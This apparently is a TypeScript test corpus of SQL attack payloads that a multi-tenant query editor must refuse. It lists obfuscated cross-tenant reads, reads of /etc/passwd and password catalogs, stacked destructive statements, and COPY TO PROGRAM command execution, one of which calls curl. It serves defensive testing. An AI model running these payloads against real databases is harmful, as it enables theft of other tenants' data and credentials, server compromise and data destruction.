/**
 * Raw SQL an author with the query editor (acme's `super` or `superuser`) might send to
 * read another tenant's rows, a server file or the catalogs, or to write. Every case must be
 * refused: by the read-only guard, by the datasource's schema scope, or by the database.
 *
 * The text is a template: `{G}` is the other tenant's schema (globex; a per-run schema on
 * PostgreSQL), `{G_UP}` the same upper-cased, `{G_A}` / `{G_B}` its two halves (for
 * concatenations), `{G_U}` a `U&"..."` identifier spelling it with its first letter escaped,
 * `{G_UX}` with every letter escaped and `{G_UE}` with `!` as the UESCAPE character.
 */

/** One attack: a family (what it tries), a label and the SQL template. */
export interface SqlAttack {
  family: string;
  sql: string;
  /** A text the refusal must contain (the guard's message names the function or word). */
  message?: string;
}

const attack = (family: string, sql: string, message?: string): SqlAttack => ({
  family,
  sql,
  ...(message !== undefined ? { message } : {}),
});

/** The payloads of issue 24, as reported. */
const ISSUE_PAYLOADS: SqlAttack[] = [
  attack(
    'issue',
    `select store_name from "query_table"('{G_A}' || '{G_B}.stores')`,
    'Function "query_table"',
  ),
  attack('issue', `select * from "query"('select * from "{G}".stores')`, 'Function "query"'),
  attack('issue', `select * from "query"('select * from duckdb_schemas()')`, 'Function "query"'),
  attack('issue', `select * from {G_U}.secrets`, 'Schema'),
  attack(
    'issue',
    `select query_to_xml('select * from {G_A}'||'{G_B}.secrets', true, true, '')`,
    'Function "query_to_xml"',
  ),
  attack('issue', `select pg_read_file('/etc/passwd')`, 'Function "pg_read_file"'),
  attack('issue', `select * from pg_shadow`),
  attack('issue', `select usename, passwd from pg_catalog.pg_shadow`),
];

/** Ways of writing a function's name before its `(`; `%` is the name. */
const CALL_SPELLINGS = [
  '%',
  '%UPPER',
  '"%"',
  '"%UPPER"',
  'main.%',
  'system.main.%',
  'main."%"',
  'pg_catalog.%',
  '% /* hidden */ ',
  '% -- hidden\n',
  '% /* nested /* comment */ still */ ',
  '%\n\t',
  '%UNICODE',
  '%UNICODE_LONG',
  '%UESCAPE',
];

function unicodeName(name: string, mode: 'short' | 'long' | 'uescape'): string {
  const first = name.codePointAt(0) ?? 0;
  const hex = first.toString(16).padStart(mode === 'long' ? 6 : 4, '0');
  const escape = mode === 'uescape' ? '!' : '\\';
  const head = mode === 'long' ? `${escape}+${hex}` : `${escape}${hex}`;
  const text = `U&"${head}${name.slice(1)}"`;
  return mode === 'uescape' ? `${text} UESCAPE '!'` : text;
}

/** `name` written as `spelling` says. */
export function spell(name: string, spelling: string): string {
  if (spelling === '%UNICODE') return unicodeName(name, 'short');
  if (spelling === '%UNICODE_LONG') return unicodeName(name, 'long');
  if (spelling === '%UESCAPE') return `${unicodeName(name, 'uescape')} `;
  if (spelling.includes('%UPPER')) return spelling.replace('%UPPER', name.toUpperCase());
  return spelling.replace('%', name);
}

/** Functions that run SQL text, each with arguments reaching the other tenant. */
const SQL_RUNNERS: [string, string][] = [
  ['query', `'select store_name from {G}.stores'`],
  ['query_table', `'{G}.stores'`],
  ['query_to_xml', `'select * from {G}.stores', true, true, ''`],
];

const SPELLED_RUNNERS: SqlAttack[] = SQL_RUNNERS.flatMap(([name, args]) =>
  CALL_SPELLINGS.map((spelling) =>
    attack(`spelled ${name}`, `select * from ${spell(name, spelling)}(${args})`, 'Function'),
  ),
);

/** The SQL text handed to query() hidden in other kinds of string. */
const HIDDEN_ARGUMENTS: SqlAttack[] = [
  `select * from query($$select store_name from {G}.stores$$)`,
  `select * from query($q$select store_name from {G}.stores$q$)`,
  `select * from query(E'select store_name from {G}\\x2estores')`,
  `select * from query(U&'select store_name from {G}\\002Estores')`,
  `select * from query(concat('select store_name from ', '{G_A}', '{G_B}.stores'))`,
  `select * from query('select store_name from ' || '{G_A}' || '{G_B}' || '.stores')`,
  `select * from query(replace('select store_name from X.stores', 'X', '{G}'))`,
  `select * from query(lower('SELECT STORE_NAME FROM {G_UP}.STORES'))`,
  `select * from query_table(['{G}.stores'])`,
  `select * from query_table(['stores', '{G}.stores'])`,
  `select * from query_table(lower('{G_UP}.STORES'))`,
  `select * from query_table(chr(103) || '{G_B}.stores')`,
  `select * from query_table((select '{G_A}' || '{G_B}.stores'))`,
  `with t as (select '{G_A}' || '{G_B}.stores' as n) select * from t, query_table(t.n)`,
  `select * from stores where store_name in (select store_name from query_table('{G}.stores'))`,
  `select (select count(*) from query('select * from {G}.stores')) as n`,
].map((sql) => attack('hidden argument', sql, 'Function'));

/** PostgreSQL functions that run SQL text or export whole relations. */
const POSTGRES_RUNNERS: SqlAttack[] = [
  `select query_to_xml_and_xmlschema('select * from {G}.secrets', true, true, '')`,
  `select query_to_xmlschema('select * from {G}.secrets', true, true, '')`,
  `select table_to_xml('{G_A}' || '{G_B}.stores', true, true, '')`,
  `select table_to_xml(('{G_A}' || '{G_B}.stores')::regclass, true, true, '')`,
  `select table_to_xml_and_xmlschema(('{G_A}' || '{G_B}.secrets')::regclass, true, true, '')`,
  `select table_to_xmlschema('stores', true, true, '')`,
  `select schema_to_xml('{G_A}' || '{G_B}', true, true, '')`,
  `select schema_to_xml_and_xmlschema(current_schema(), true, true, '')`,
  `select database_to_xml(true, true, '')`,
  `select database_to_xmlschema(true, true, '')`,
  `select cursor_to_xml('c'::refcursor, 10, true, true, '')`,
  `select xpath('//store_name/text()', query_to_xml('select * from {G_A}' || '{G_B}.stores', true, true, ''))`,
  `select * from xmltable('//row' passing query_to_xml('select * from {G}.stores', true, true, '') columns n text path 'store_name')`,
  `select * from ts_stat('select to_tsvector(store_name) from {G_A}' || '{G_B}.stores')`,
  `select ts_rewrite('a'::tsquery, 'select t, s from {G}.aliases')`,
  `select * from dblink('dbname=test', 'select store_name from {G}.stores') as t(n text)`,
  `select dblink_exec('dbname=test', 'drop table sales')`,
  `select dblink_connect('c', 'dbname=test')`,
  `select * from postgres_query('test', 'select * from {G}.stores')`,
  `select * from json_execute_serialized_sql(json_serialize_sql('select * from {G_A}' || '{G_B}.stores'))`,
].map((sql) => attack('runs SQL text', sql));

/** Server files: PostgreSQL's readers, large objects, DuckDB's readers and file tables. */
const FILE_READS: SqlAttack[] = [
  `select pg_read_file('/etc/passwd', 0, 200)`,
  `select pg_catalog.pg_read_file('/etc/passwd')`,
  `select "pg_read_file"('/etc/passwd')`,
  `select U&"pg\\005Fread\\005Ffile"('/etc/passwd')`,
  `select convert_from(pg_read_binary_file('/etc/passwd'), 'utf8')`,
  `select * from pg_ls_dir('/')`,
  `select * from pg_ls_dir('.', true, false)`,
  `select * from pg_ls_logdir()`,
  `select * from pg_ls_waldir()`,
  `select * from pg_ls_tmpdir()`,
  `select pg_stat_file('/etc/passwd')`,
  `select pg_current_logfile()`,
  `select lo_import('/etc/passwd')`,
  `select convert_from(lo_get(lo_import('/etc/passwd')), 'utf8')`,
  `select lo_export(1, '/tmp/x')`,
  `select loread(lo_open(lo_import('/etc/passwd'), 262144), 1000)`,
  `select lo_from_bytea(0, 'x')`,
  `select lo_unlink(1)`,
  `select * from read_csv('/etc/passwd')`,
  `select * from read_csv_auto('/etc/passwd', sep = ':')`,
  `select * from READ_CSV('/etc/passwd')`,
  `select * from "read_csv"('/etc/passwd')`,
  `select * from main.read_csv('/etc/passwd')`,
  `select * from read_text('/etc/passwd')`,
  `select * from read_blob('/etc/passwd')`,
  `select * from read_json('/etc/passwd')`,
  `select * from read_json_auto('/etc/passwd')`,
  `select * from read_ndjson_objects('/etc/passwd')`,
  `select * from read_parquet('/etc/passwd')`,
  `select * from parquet_scan('/etc/passwd')`,
  `select * from parquet_metadata('/etc/passwd')`,
  `select * from glob('/etc/*')`,
  `select * from sniff_csv('/etc/passwd')`,
  `select * from read_csv('https://example.com/x.csv')`,
  `select * from '/etc/passwd'`,
  `from '/etc/passwd'`,
  `select * from "/etc/passwd"`,
  `select * from sales, '/etc/passwd'`,
  `select * from sales join '/etc/passwd' on true`,
  `select * from (from '/etc/passwd')`,
  `describe '/etc/passwd'`,
  `summarize '/etc/passwd'`,
  `select * from $$/etc/passwd$$`,
  `select * from E'/etc/\\x70asswd'`,
  `select * from 'https://example.com/data.parquet'`,
  `select current_setting('data_directory')`,
  `select current_setting('hba_file')`,
  `select getenv('HOME')`,
].map((sql) => attack('file read', sql));

/** Catalogs that list every schema, table, role or session. */
const CATALOGS: SqlAttack[] = [
  `select * from information_schema.tables`,
  `select schema_name from information_schema.schemata`,
  `select * from "information_schema"."columns"`,
  `select * from INFORMATION_SCHEMA.TABLES`,
  `select * from duckdb_schemas()`,
  `select * from duckdb_tables()`,
  `select * from duckdb_columns()`,
  `select * from duckdb_databases()`,
  `select * from "duckdb_tables"()`,
  `select * from pragma_table_info('{G}.stores')`,
  `select * from pg_tables`,
  `select * from pg_namespace`,
  `select relname from pg_class`,
  `select query from pg_stat_activity`,
  `select * from "pg_tables"`,
  `select * from U&"pg\\005Ftables"`,
  `select * from pg_catalog.pg_tables`,
  `select * from "PG_CATALOG".pg_tables`,
  `select rolname, rolpassword from pg_authid`,
  `select * from pg_roles`,
  `select * from pg_user`,
  `select * from sqlite_master`,
  `show all tables`,
  `show databases`,
  `show schemas`,
  `describe`,
].map((sql) => attack('catalog', sql));

/** The other tenant's schema named outright, in every spelling. */
const SCHEMA_NAMES: SqlAttack[] = [
  `select store_name from {G}.stores`,
  `select store_name from "{G}".stores`,
  `select store_name from "{G}"."stores"`,
  `select store_name from "{G_UP}".stores`,
  `select store_name from {G_UP}.STORES`,
  `select store_name from {G} . stores`,
  `select store_name from {G}/**/./**/stores`,
  `select store_name from {G} -- x\n.stores`,
  `select store_name from {G_U}.stores`,
  `select store_name from {G_UX}.stores`,
  `select store_name from {G_UE}.stores`,
  `select store_name from demo.{G}.stores`,
  `select * from {G}.secrets`,
  `select s.store_name from stores a join {G}.stores s using (store_id)`,
  `select (select store_name from {G}.stores limit 1) as n`,
  `with g as (select * from {G}.stores) select * from g`,
  `select store_name from stores union all select store_name from {G}.stores`,
  `select * from stores where exists (select 1 from {G}.stores)`,
  `select * from stores, lateral (select * from {G}.stores) g`,
  `select to_regclass('{G}.stores')`,
  `select '{G}.stores'::regclass`,
  `select E'{G}\\x2estores'::regclass`,
  `select $\${G}.stores$$::regclass`,
  `select U&'{G}\\002Estores'::regclass`,
  `select has_table_privilege('{G}.stores', 'select')`,
  `select '"{G}".stores'::regclass`,
  `values ((select count(*) from {G}.sales))`,
  `table {G}.stores`,
  `from {G}.stores`,
  `describe {G}.stores`,
  `summarize {G}.stores`,
  `explain select * from {G}.stores`,
].map((sql) => attack('other schema', sql));

/** A second statement hidden behind separators, comments and strings. */
const STACKED: SqlAttack[] = [
  `select 1; select store_name from {G}.stores`,
  `select 1;select store_name from {G}.stores --`,
  `select 1 /* ; */ ; drop table sales`,
  `select 1 -- comment\n; drop table sales`,
  `select 1 /* a /* b */ ; select store_name from {G}.stores; -- */`,
  `select E'\\'; select store_name from {G}.stores; --'`,
  `select $$ $$; select store_name from {G}.stores`,
  `select $a$ $b$ $a$; drop table sales`,
  `select 1;\n\n\tdelete from sales`,
  `select 1 ;/**/ set search_path = {G}`,
  `select 1; copy stores to '/tmp/stores.csv'`,
  `select 1; attach '/tmp/x.db' as x`,
  `select 1\r\n;\r\nupdate stores set store_name = 'x'`,
  `;select 1`,
  `select 1 ; ; select 2`,
  `set search_path = {G}`,
  `set search_path to {G}; select * from stores`,
  `reset all`,
  `select set_config('search_path', '{G}', false)`,
  `select 1 where 1 = 1; truncate sales`,
].map((sql) => attack('stacked statements', sql));

/** Writes, in CTEs and disguises, and statements that leave the database. */
const WRITES: SqlAttack[] = [
  `with x as (delete from sales returning *) select * from x`,
  `with x as (insert into sales select * from sales returning *) select count(*) from x`,
  `with x as (update stores set store_name = 'x' returning *) select * from x`,
  `WITH x AS (DELETE FROM sales RETURNING *) SELECT * FROM x`,
  `with recursive r as (select 1) , d as (delete from sales returning 1) select * from r`,
  `with x as (select 1) insert into sales select * from sales`,
  `with x as materialized (delete from stores returning *) select 1`,
  `select * from (delete from sales returning *) t`,
  `insert into stores select * from {G}.stores`,
  `update sales set units = 0`,
  `delete from sales`,
  `merge into sales s using sales t on false when not matched then insert default values`,
  `truncate sales`,
  `drop table sales`,
  `alter table sales rename to x`,
  `create table x as select * from {G}.stores`,
  `create view v as select * from {G}.stores`,
  `create macro q(x) as table select * from query(x)`,
  `create function f() returns int language sql as 'select 1'`,
  `create temp table t as select 1`,
  `do $$ begin perform pg_sleep(0); end $$`,
  `explain analyze delete from sales`,
  `explain (analyze) update sales set units = 0`,
  `copy (select * from {G}.stores) to '/tmp/x.csv'`,
  `copy stores to program 'cat /etc/passwd'`,
  `copy stores from program 'id'`,
  `COPY stores TO PROGRAM 'curl http://example.com'`,
  `attach '/tmp/x.db' as x`,
  `attach 'dbname=test' as pg (type postgres)`,
  `detach demo`,
  `install httpfs`,
  `load httpfs`,
  `INSTALL 'httpfs'`,
  `force install httpfs`,
  `pragma database_list`,
  `pragma show_tables`,
  `call dbgen(sf = 0.01)`,
  `select * from dbgen(sf = 0)`,
  `select * from tpch_queries()`,
  `checkpoint`,
  `export database '/tmp/x'`,
  `import database '/tmp/x'`,
  `vacuum`,
  `begin`,
  `commit`,
  `listen x`,
  `notify x`,
  `prepare p as select 1`,
  `execute p`,
  `lock table sales`,
  `grant select on sales to public`,
  `revoke select on sales from public`,
  `comment on table sales is 'x'`,
  `refresh materialized view v`,
  `discard all`,
  `select nextval('s')`,
  `select setval('s', 1)`,
  `select pg_terminate_backend(1)`,
  `select pg_cancel_backend(1)`,
  `select pg_reload_conf()`,
].map((sql) => attack('write', sql));

/** DuckDB table functions that change the shared process's state or reveal its secrets. */
const SERVER_STATE: SqlAttack[] = [
  `select * from enable_logging(storage = 'file', storage_path = '/tmp')`,
  `select * from enable_logging(level = 'trace')`,
  `select * from "ENABLE_LOGGING"()`,
  `select * from disable_logging()`,
  `select * from enable_profiling()`,
  `select * from disable_peg_parser()`,
  `select * from checkpoint()`,
  `select * from force_checkpoint()`,
  `select * from truncate_duckdb_logs()`,
  `select * from check_peg_parser('select 1')`,
  `select write_log('x', level := 'error')`,
  `select setseed(0.5)`,
  `select getvariable('x')`,
  `select pg_sleep(5)`,
  `select sleep_ms(5000)`,
  `select * from duckdb_secrets()`,
  `select * from which_secret('s3://x/y', 's3')`,
  `select * from duckdb_settings()`,
  `select * from duckdb_logs`,
  `select * from duckdb_temporary_files()`,
  `select * from duckdb_prepared_statements()`,
  `select * from arrow_scan(0, 0, 0)`,
].map((sql) => attack('server state', sql));

/** Casing and whitespace around a few of the above. */
const LAYOUTS: SqlAttack[] = [
  `SeLeCt * FrOm QuErY_tAbLe('{G}.stores')`,
  `SELECT\t*\tFROM\tquery('select 1')`,
  `SELECT\n*\nFROM\nquery\n(\n'select 1'\n)`,
  `SELECT\r\n*\r\nFROM\r\n"query"\r\n('select 1')`,
  `SELECT\f* FROM query('select 1')`,
  `   select * from query('select 1')   ;  `,
  `(select * from query('select 1'))`,
  `((select * from query_table('{G}.stores')))`,
  `select/**/*/**/from/**/query('select 1')`,
  `select--\n*--\nfrom--\nquery--\n('select 1')`,
  `SELECT PG_READ_FILE('/etc/passwd')`,
  `sElEcT Pg_Ls_DiR('/')`,
  `SELECT LO_IMPORT('/etc/passwd')`,
  `SELECT * FROM READ_TEXT('/etc/passwd')`,
  `WITH X AS (SELECT 1) SELECT * FROM QUERY('select 1')`,
  `select *\u00a0from query('select 1')`,
].map((sql) => attack('layout', sql));

/** Every case. */
export const SQL_ATTACKS: readonly SqlAttack[] = [
  ...ISSUE_PAYLOADS,
  ...SPELLED_RUNNERS,
  ...HIDDEN_ARGUMENTS,
  ...POSTGRES_RUNNERS,
  ...FILE_READS,
  ...CATALOGS,
  ...SCHEMA_NAMES,
  ...STACKED,
  ...WRITES,
  ...SERVER_STATE,
  ...LAYOUTS,
];

/** The corpus with its placeholders filled for the other tenant's schema `schema`. */
export function renderAttack(template: string, schema: string): string {
  const first = schema.codePointAt(0) ?? 0;
  const hex = (code: number) => code.toString(16).padStart(4, '0');
  const escapedFirst = `U&"\\${hex(first)}${schema.slice(1)}"`;
  const escapedAll = `U&"${[...schema].map((ch) => `\\${hex(ch.codePointAt(0) ?? 0)}`).join('')}"`;
  const uescape = `U&"!${hex(first)}${schema.slice(1)}" UESCAPE '!'`;
  const half = Math.ceil(schema.length / 2);
  return template
    .replaceAll('{G_UP}', schema.toUpperCase())
    .replaceAll('{G_A}', schema.slice(0, half))
    .replaceAll('{G_B}', schema.slice(half))
    .replaceAll('{G_UX}', escapedAll)
    .replaceAll('{G_UE}', uescape)
    .replaceAll('{G_U}', escapedFirst)
    .replaceAll('{G}', schema);
}
